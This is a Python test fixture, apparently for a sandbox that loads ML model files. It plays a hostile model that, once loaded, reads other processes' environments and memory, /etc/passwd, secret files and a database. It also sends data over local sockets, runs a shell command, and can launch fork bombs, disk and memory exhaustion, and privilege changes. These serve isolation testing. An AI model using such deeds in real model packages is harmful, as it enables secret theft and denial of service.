"""A model file that does harm while it is loaded, and tells of it in its own answers.

It is copied into model folders as their `code`, so it imports nothing of the project. Every deed
leaves a trace outside that a test can look for; what only the model itself can know (how many forks
went through) it smuggles out as the labels it predicts, the one door that must stay open.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import signal
import socket
import sqlite3
import subprocess
import threading
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

TARGETS: dict[str, Any] = {}


def write_outside() -> str:
    Path(TARGETS["outside"], "written").write_text("I was here")
    return "written"


def read_the_portals_environment() -> str:
    environ = Path(f"/proc/{TARGETS['portal']}/environ").read_bytes()
    return "read" if TARGETS["secret"].encode() in environ else "not found"


def read_every_environment() -> str:
    found = 0
    for process in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            found += TARGETS["secret"].encode() in (process / "environ").read_bytes()
    if not found:
        raise PermissionError
    return "read"


def read_the_portals_database() -> str:
    with contextlib.closing(sqlite3.connect(TARGETS["database"])) as database:
        return str(database.execute("SELECT secret FROM portal").fetchone()[0])


def read_the_secret_file() -> str:
    return Path(TARGETS["secret_file"]).read_text()


def read_the_accounts() -> str:
    return f"read {len(Path('/etc/passwd').read_text())}"


def list_the_portals_folder() -> str:
    return f"listed {len(list(Path(TARGETS['outside']).parent.iterdir()))}"


def read_the_portals_memory() -> str:
    with Path(f"/proc/{TARGETS['portal']}/mem").open("rb"):
        return "read"


def call_out_by_tcp() -> str:
    with socket.create_connection(("127.0.0.1", TARGETS["tcp"]), timeout=2) as line:
        line.sendall(b"secrets")
    return "sent"


def call_out_by_udp() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"secrets", ("127.0.0.1", TARGETS["udp"]))
    return "sent"


def call_out_by_unix_socket() -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.connect(TARGETS["unix"])
    return "sent"


def run_a_shell() -> str:
    place = Path(TARGETS["outside"], "by-shell")
    subprocess.run(f"echo here > {place}", shell=True, check=True)  # noqa: S602
    return "ran"


def signal_the_portal() -> str:
    os.kill(TARGETS["portal"], 0)
    return "signalled"


def change_its_own_file() -> str:
    Path(TARGETS["here"]).write_text("# something else")
    return "changed"


DEEDS: dict[str, Callable[[], str]] = {
    deed.__name__: deed
    for deed in (
        *(write_outside, read_the_portals_environment, read_every_environment),
        *(read_the_portals_database, read_the_secret_file, read_the_accounts),
        *(list_the_portals_folder, read_the_portals_memory, call_out_by_tcp, call_out_by_udp),
        *(call_out_by_unix_socket, run_a_shell, signal_the_portal, change_its_own_file),
    )
}


# --- deeds that would hurt the machine: never done without the sandbox --------------------------


def become_root() -> str:
    os.setuid(0)
    return "became root"


def leave_by_unshare() -> str:
    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000):
        raise OSError(ctypes.get_errno(), "unshare")
    return "left"


def outlive_its_parent() -> str:
    if ctypes.CDLL(None, use_errno=True).prctl(1, 0, 0, 0, 0):
        raise OSError(ctypes.get_errno(), "prctl")
    return "outlives"


def fork_bomb() -> str:
    forks = 0
    for _ in range(150):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os._exit(0)
            forks += 1
    return str(forks)


def thread_bomb() -> str:
    stop, started = threading.Event(), 0
    with contextlib.suppress(RuntimeError):
        for _ in range(400):
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    stop.set()
    return str(started)


def fill_the_disk() -> str:
    written = 0
    try:
        for part in range(80):
            Path(os.environ["TMPDIR"], f"part-{part}").write_bytes(bytes(4 << 20))
            written += 4
    except OSError:
        return str(written)
    finally:
        for part in range(80):
            with contextlib.suppress(OSError):
                Path(os.environ["TMPDIR"], f"part-{part}").unlink()
    return str(written)


def fill_the_memory() -> str:
    held: list[bytearray] = []
    with contextlib.suppress(MemoryError):
        while len(held) < 60:
            held.append(bytearray(b"\1") * (50 << 20))
    return str(50 * len(held))


BOMBS: dict[str, Callable[[], str]] = {
    bomb.__name__: bomb
    for bomb in (
        *(become_root, leave_by_unshare, outlive_its_parent),
        *(fork_bomb, thread_bomb, fill_the_disk, fill_the_memory),
    )
}


# --- deeds that never end -----------------------------------------------------------------------


def hang() -> None:
    threading.Event().wait()


def talk_without_end() -> None:
    while True:
        for line in (1, *range(3, 20)):
            with contextlib.suppress(OSError):
                os.write(line, b"x" * 65536)


def burn_the_processor() -> None:
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True:
        time.monotonic()


def tell_a_lie() -> None:
    lie = json.dumps({"result": {"features": ["nothing"], "shap": [[1e999]]}}).encode()
    for line in range(3, 20):
        with contextlib.suppress(OSError):
            os.write(line, lie + b"\n")


def leave() -> None:
    os._exit(0)


class Model:
    """Answers with what it managed to do."""

    def __init__(self, targets: dict[str, Any]) -> None:
        TARGETS.update(targets)
        # The portal's process is not hard to learn on a machine; here it is simply told.
        near = (
            Path.cwd() / "model",
            Path(TARGETS["here"]).parent,
            Path(TARGETS["here"]).parents[1],
        )
        TARGETS["portal"] = next(
            int((place / "portal-process").read_text())
            for place in near
            if (place / "portal-process").exists()
        )
        if "endless" in targets:
            globals()[targets["endless"]]()
        self.report = []
        for name, deed in (DEEDS | (BOMBS if targets["bombs"] else {})).items():
            try:
                self.report.append(f"{name}: {deed()}")
            except BaseException as stopped:  # noqa: BLE001
                self.report.append(f"{name}: stopped by {type(stopped).__name__}")

    def predict(self, rows: Sequence[object], **_: object) -> list[str]:
        return [self.report[i % len(self.report)] for i in range(len(rows))]


def _load_pyfunc(path: str) -> Model:
    return Model(json.loads(Path(path).read_text()) | {"here": path})
